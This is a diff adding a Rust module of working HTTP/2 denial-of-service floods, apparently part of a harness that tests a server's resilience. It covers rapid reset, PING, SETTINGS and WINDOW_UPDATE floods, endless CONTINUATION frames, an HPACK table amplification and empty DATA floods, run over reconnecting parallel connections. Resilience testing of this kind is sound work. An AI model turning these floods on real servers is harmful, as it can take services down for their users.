@@ -1,0 +1,177 @@
+//! Frames of HTTP/2 that cost the server more than the client, on a few connections.
+
+use std::time::Duration;
+
+use anyhow::Result;
+use futures_util::FutureExt as _;
+use futures_util::future::join_all;
+use tokio::io::{AsyncWriteExt as _, split};
+use tokio::time::{Instant, timeout_at};
+
+use super::connections::drain;
+use super::requests::{dry, object_path};
+use super::{Attack, Context, ELSEWHERE, Report};
+use crate::frames::{self, END_HEADERS, END_STREAM, frame};
+use crate::tls::{Identity, Protocol};
+
+/// Connections that flood at once.
+const LANES: usize = 4;
+/// Frames that are written together.
+const CHUNK: u32 = 100;
+
+pub(super) const ATTACKS: &[Attack] = &[
+    Attack::client(
+        "floods/rapid-reset",
+        "requests that are reset at once",
+        |context| async move { flood(&context, Identity::Admin, rapid_reset).await }.boxed(),
+    ),
+    Attack::client("floods/pings", "PING frames without end", |context| {
+        async move { flood(&context, Identity::Nobody, pings).await }.boxed()
+    }),
+    Attack::client(
+        "floods/settings",
+        "SETTINGS frames without end",
+        |context| async move { flood(&context, Identity::Nobody, settings).await }.boxed(),
+    ),
+    Attack::client(
+        "floods/continuation",
+        "headers that CONTINUATION never ends",
+        |context| async move { flood(&context, Identity::Nobody, continuation).await }.boxed(),
+    ),
+    Attack::client(
+        "floods/header-table",
+        "a header of 4 kB that is named 4,000 times by index",
+        |context| async move { flood(&context, Identity::Nobody, header_table).await }.boxed(),
+    ),
+    Attack::client(
+        "floods/empty-data",
+        "a body of empty DATA frames",
+        |context| async move { flood(&context, Identity::Admin, empty_data).await }.boxed(),
+    ),
+    Attack::client(
+        "floods/window-updates",
+        "WINDOW_UPDATE of one byte without end",
+        |context| async move { flood(&context, Identity::Nobody, window_updates).await }.boxed(),
+    ),
+    Attack::client(
+        "floods/anonymous",
+        "requests without credentials, as fast as they go",
+        |context| async move { flood(&context, Identity::Nobody, anonymous).await }.boxed(),
+    ),
+];
+
+/// Writes chunks, each made from its number, until the time is over; connects again when the server
+/// has had enough.
+async fn flood(
+    context: &Context,
+    identity: Identity,
+    chunk: fn(&str, u32) -> Vec<u8>,
+) -> Result<Report> {
+    let end = Instant::now() + context.seconds;
+    let lanes = (0..LANES).map(|_| async move {
+        let mut sent = 0;
+        while Instant::now() < end {
+            let connection = context
+                .target
+                .tls(ELSEWHERE, identity, Protocol::Http2)
+                .await;
+            // A server that refuses more connections defends itself.
+            let Ok(stream) = connection else {
+                tokio::time::sleep(Duration::from_millis(100)).await;
+                continue;
+            };
+            let (mut reader, mut writer) = split(stream);
+            let authority = context.target.address.to_string();
+            let writing = async {
+                writer.write_all(&frames::hello(65_535)).await?;
+                for number in 0.. {
+                    let bytes = chunk(&authority, number);
+                    writer.write_all(&bytes).await?;
+                    writer.flush().await?;
+                    sent += bytes.len() as u64;
+                }
+                std::io::Result::Ok(())
+            };
+            let both = async {
+                tokio::select! {
+                    _ = writing => {}
+                    _ = drain(&mut reader) => {}
+                }
+            };
+            // The time is over, or the connection is.
+            let _ = timeout_at(end, both).await;
+        }
+        sent
+    });
+    let bytes = join_all(lanes).await.into_iter().sum();
+    Ok(Report {
+        bytes,
+        ..Report::default()
+    })
+}
+
+/// Ids of the streams of a chunk.
+fn streams(number: u32) -> impl Iterator<Item = u32> {
+    (0..CHUNK).map(move |stream| (number * CHUNK + stream) * 2 + 1)
+}
+
+fn rapid_reset(authority: &str, number: u32) -> Vec<u8> {
+    let path = object_path("blobs");
+    let cancel = 8_u32.to_be_bytes();
+    let requests = streams(number).flat_map(|stream| {
+        let mut bytes = frames::get(stream, authority, &path);
+        bytes.extend(frame(frames::RST_STREAM, 0, stream, &cancel));
+        bytes
+    });
+    requests.collect()
+}
+
+fn anonymous(authority: &str, number: u32) -> Vec<u8> {
+    let path = object_path("blobs");
+    let requests = streams(number).flat_map(|stream| frames::get(stream, authority, &path));
+    requests.collect()
+}
+
+fn pings(_: &str, _: u32) -> Vec<u8> {
+    frame(frames::PING, 0, 0, &[0; 8]).repeat(CHUNK as usize)
+}
+
+fn settings(_: &str, _: u32) -> Vec<u8> {
+    frame(frames::SETTINGS, 0, 0, &[]).repeat(CHUNK as usize)
+}
+
+fn window_updates(_: &str, _: u32) -> Vec<u8> {
+    frame(frames::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(CHUNK as usize)
+}
+
+fn continuation(authority: &str, number: u32) -> Vec<u8> {
+    if number == 0 {
+        let block = frames::get_block(authority, "/livez");
+        return frame(frames::HEADERS, END_STREAM, 1, &block);
+    }
+    let header = frames::header("x", &"a".repeat(16_000));
+    frame(frames::CONTINUATION, 0, 1, &header)
+}
+
+fn header_table(authority: &str, number: u32) -> Vec<u8> {
+    let mut block = frames::get_block(authority, "/livez");
+    // With indexing: the header becomes entry 62, the first of the dynamic table.
+    let mut header = frames::header("x", &"a".repeat(4_000));
+    header[0] = 0x40;
+    block.extend(header);
+    block.extend([0xbe].repeat(4_000));
+    frame(
+        frames::HEADERS,
+        END_STREAM | END_HEADERS,
+        number * 2 + 1,
+        &block,
+    )
+}
+
+fn empty_data(authority: &str, number: u32) -> Vec<u8> {
+    if number == 0 {
+        let block = frames::post_block(authority, &dry("blobs"));
+        return frame(frames::HEADERS, END_HEADERS, 1, &block);
+    }
+    frame(frames::DATA, 0, 1, &[]).repeat(CHUNK as usize)
+}
